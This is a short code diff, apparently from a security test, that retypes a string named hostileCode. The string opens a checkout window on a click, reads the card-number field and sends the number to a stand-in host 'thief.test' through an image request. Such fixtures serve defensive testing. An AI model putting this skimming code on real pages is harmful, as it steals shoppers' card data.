@@ -9,10 +9,10 @@ const thief = 'https://thief.test';
 
 /** Opens the checkout in a window at the first click, and sends what is typed there as the address of a picture. */
 const hostileCode = `
-const look = (checkout: any) => {
-  (window as any).looks = ((window as any).looks ?? 0) + 1;
-  (window as any).reached = !checkout.closed;
-  const card = checkout.document?.querySelector('[autocomplete="cc-number"]')?.value;
+const look = (checkout: Window) => {
+  Reflect.set(window, 'looks', Number(Reflect.get(window, 'looks') ?? 0) + 1);
+  Reflect.set(window, 'reached', !checkout.closed);
+  const card = checkout.document?.querySelector<HTMLInputElement>('[autocomplete="cc-number"]')?.value;
   if (card) new Image().src = '${thief}/?card=' + card;
 };
 window.addEventListener('click', () => {
